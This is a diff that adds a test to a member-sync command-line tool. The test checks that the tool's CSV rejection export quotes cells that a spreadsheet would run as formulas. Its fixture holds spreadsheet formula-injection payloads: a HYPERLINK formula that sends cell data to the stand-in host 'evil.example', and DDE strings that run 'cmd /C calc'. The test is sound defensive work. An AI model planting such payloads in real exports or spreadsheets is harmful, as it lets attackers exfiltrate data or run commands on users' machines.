@@ -171,6 +171,30 @@ def test_history_rejections_and_diagnosis_explain_the_counts(world: World) -> No
     assert "no refresh has run since it was created" in output
 
 
+FORMULA_MEMBERS = (  # contact key, legacy contact key, email: each one a spreadsheet would run
+    ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)", "=cmd|' /C calc'!A0"),
+    ("\t=1+1", "-2+3", "+1+cmd|' /C calc'!A0"),
+)
+
+
+def test_rejections_as_csv_quote_member_cells_that_would_run_as_formulas(world: World) -> None:
+    world.members(*FORMULA_MEMBERS)
+    keys = [contact_key for contact_key, _, _ in FORMULA_MEMBERS]
+    world.list("Informz Formulas", {"field": "contact_key", "op": "in", "value": keys})
+    kith("refresh")
+    kith("sync", "Formulas", "--wait")
+
+    code, output = kith("rejections", "Formulas", "--csv")
+
+    assert code == 0, output
+    rows = list(csv.reader(io.StringIO(output, newline="")))
+    assert rows[0] == ["contact_key", "legacy_contact_key", "email", "reason"]
+    assert sorted(row[:3] for row in rows[1:]) == sorted(
+        ["'" + cell for cell in member] for member in FORMULA_MEMBERS
+    )
+    assert {row[3] for row in rows[1:]} == {"malformed_email"}
+
+
 def test_a_failed_or_held_sync_exits_1(world: World) -> None:
     kith("refresh")
     world.configure(active=False)
